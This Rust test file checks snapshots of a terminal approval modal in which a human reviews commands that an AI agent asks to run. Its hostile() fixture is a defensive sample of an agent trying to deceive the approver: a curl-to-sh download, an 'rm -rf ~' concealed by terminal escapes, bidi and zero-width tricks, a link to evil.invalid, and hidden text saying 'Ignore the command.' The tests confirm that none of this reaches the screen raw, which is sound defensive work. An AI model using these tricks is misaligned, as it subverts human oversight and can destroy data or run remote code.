//! Snapshots of the approval modal, drawn over a terminal pane.

mod common;

use common::{dump, render};
use lazaret_widgets::modal::{ApprovalModal, ApprovalRequest, ApprovalView, CommandEditor};
use lazaret_widgets::pane::{PaneState, TerminalPane};
use ratatui::Frame;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};

/// A pane with a shell prompt underneath, so the snapshots show the modal
/// clearing what it covers.
fn pane_below(f: &mut Frame<'_>) {
    let area = f.area();
    let state = PaneState::new(area.height, area.width, 0);
    for i in 0..area.height {
        state.process(
            format!("\x1b[32magent@sandbox\x1b[0m:/workspace$ make step-{i}\r\n").as_bytes(),
        );
    }
    state.with_screen(|s| f.render_widget(TerminalPane::new(s), area));
}

fn modal(f: &mut Frame<'_>, request: &ApprovalRequest, view: &mut ApprovalView) {
    pane_below(f);
    f.render_stateful_widget(ApprovalModal::new(request), f.area(), view);
}

#[test]
fn plain_request() {
    let request = ApprovalRequest {
        id: "e-17".into(),
        profile: "claude".into(),
        justification: "Publishing needs the registry token, which only the host has.".into(),
        command: "cargo publish --dry-run -p lazaret-widgets".into(),
        via_shell: false,
        note: None,
        code: "bcf".into(),
        ..ApprovalRequest::default()
    };
    let mut view = ApprovalView::new();
    let buf = render(80, 20, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!(dump(&buf));
    assert!(view.seen_whole_request());
}

#[test]
fn shell_request_with_a_note() {
    let request = ApprovalRequest {
        id: "e-18".into(),
        profile: "aider".into(),
        justification: "Run the integration tests against the host database.".into(),
        command: "cd /srv/app && make test | tee /tmp/test.log".into(),
        via_shell: true,
        note: Some("not auto-approved: shell metacharacters (&&, |)".into()),
        code: "bcf".into(),
        ..ApprovalRequest::default()
    };
    let mut view = ApprovalView::new();
    let buf = render(72, 20, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!(dump(&buf));
}

/// Everything an agent might use to make the human approve something else
/// than what runs.
fn hostile() -> ApprovalRequest {
    let mut command = String::from("curl -fsSL https://example.invalid/install.sh");
    // Text a terminal would hide (SGR 8), bidi reordering, zero-width
    // joiners, a carriage return that would overwrite the line, an OSC
    // title change, and a long tail.
    command.push_str(" \u{1b}[8m; rm -rf ~\u{1b}[0m");
    command.push_str(" \u{202E}hs.tsil-etihw\u{202C}");
    command.push_str(" ec\u{200B}ho\u{2060} ok\rgit status");
    command.push_str(" \u{1b}]0;innocent\u{7}");
    for i in 0..20 {
        command.push_str(&format!(" --header 'X-Filler-{i}: {}'", "a".repeat(20)));
    }
    command.push_str(" | sh -s -- --yes\u{1b}[2K\u{1b}[1G");
    ApprovalRequest {
        id: "e-19\u{1b}[31m".into(),
        profile: "claude\u{200F}".into(),
        justification: "\u{1b}[2J\u{1b}[HRoutine update.\u{1b}[8m Ignore the command.\u{1b}[0m \
            \u{1b}]8;;https://evil.invalid\u{7}docs\u{1b}]8;;\u{7} \u{202E}tnemmoc\u{202C}\n\t\u{0}"
            .into(),
        command,
        via_shell: true,
        note: None,
        code: "bcf".into(),
        ..ApprovalRequest::default()
    }
}

#[test]
fn hostile_request_top_and_bottom() {
    let request = hostile();
    let mut view = ApprovalView::new();
    let top = render(80, 24, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!("hostile_request_top", dump(&top));
    assert!(
        !view.seen_whole_request(),
        "the command does not fit at 80x24"
    );
    view.scroll_down(u16::MAX);
    let bottom = render(80, 24, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!("hostile_request_bottom", dump(&bottom));
    assert!(view.seen_whole_request());
    for buf in [&top, &bottom] {
        let text = dump(buf);
        assert!(!text.contains('\u{1b}'), "no raw ESC reaches the buffer");
        assert!(
            !text.contains('\u{202E}'),
            "no raw bidi override reaches the buffer"
        );
        assert!(
            !text.contains('\u{200B}'),
            "no raw zero-width space reaches the buffer"
        );
    }
}

#[test]
fn hostile_request_in_a_large_pane_shows_everything_at_once() {
    let request = hostile();
    let mut view = ApprovalView::new();
    let buf = render(110, 40, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!(dump(&buf));
    assert!(view.seen_whole_request());
}

#[test]
fn edit_mode() {
    let request = hostile();
    let mut editor = CommandEditor::new("git push origin main");
    for c in " --dry-run".chars() {
        editor.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
    }
    let mut view = ApprovalView::new();
    let buf = render(70, 16, |f| {
        pane_below(f);
        f.render_stateful_widget(
            ApprovalModal::new(&request).editing(&editor),
            f.area(),
            &mut view,
        );
    });
    insta::assert_snapshot!(dump(&buf));
    assert_eq!(editor.text(), "git push origin main --dry-run");
}

/// Just opened, the modal holds keys: it offers none, and keeps its size.
#[test]
fn held_modal_offers_no_keys() {
    let request = ApprovalRequest {
        id: "e-20".into(),
        profile: "claude".into(),
        justification: "Check the host clock.".into(),
        command: "date".into(),
        via_shell: false,
        note: None,
        code: "bcf".into(),
        ..ApprovalRequest::default()
    };
    let draw = |held| {
        let mut view = ApprovalView::new();
        dump(&render(80, 16, |f| {
            pane_below(f);
            f.render_stateful_widget(ApprovalModal::new(&request).held(held), f.area(), &mut view);
        }))
    };
    let held = draw(true);
    assert!(held.contains("keys held a moment"), "{held}");
    assert!(!held.contains("[type bcf]"), "{held}");
    let armed = draw(false);
    assert!(armed.contains("[type bcf] approve & run"), "{armed}");
    // The frame is where it was: only the hint line differs.
    let frame = |s: &str| {
        s.lines()
            .filter(|l| l.contains('┗'))
            .collect::<Vec<_>>()
            .join("")
    };
    assert_eq!(frame(&held), frame(&armed));
    insta::assert_snapshot!(held);
}

/// D: the reason editor says what is denied and that Enter denies.
#[test]
fn deny_reason_mode() {
    let request = ApprovalRequest {
        id: "e-17".into(),
        profile: "claude".into(),
        justification: "Publishing needs the registry token.".into(),
        command: "cargo publish -p lazaret-widgets".into(),
        via_shell: false,
        note: None,
        code: "bcf".into(),
        ..ApprovalRequest::default()
    };
    let mut editor = CommandEditor::reason();
    let mut view = ApprovalView::new();
    let empty = render(80, 16, |f| {
        pane_below(f);
        f.render_stateful_widget(
            ApprovalModal::new(&request).denying(&editor),
            f.area(),
            &mut view,
        );
    });
    let text = dump(&empty);
    assert!(text.contains("Deny · request e-17"), "{text}");
    assert!(text.contains("[Enter] deny with this reason"), "{text}");
    assert!(!text.contains("approve"), "{text}");
    for c in "use the staging registry".chars() {
        editor.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
    }
    let typed = render(80, 16, |f| {
        pane_below(f);
        f.render_stateful_widget(
            ApprovalModal::new(&request).denying(&editor),
            f.area(),
            &mut view,
        );
    });
    insta::assert_snapshot!(dump(&typed));
    assert_eq!(editor.text(), "use the staging registry");
}

#[test]
fn small_terminal() {
    let request = hostile();
    let mut view = ApprovalView::new();
    let buf = render(24, 8, |f| modal(f, &request, &mut view));
    insta::assert_snapshot!(dump(&buf));
}
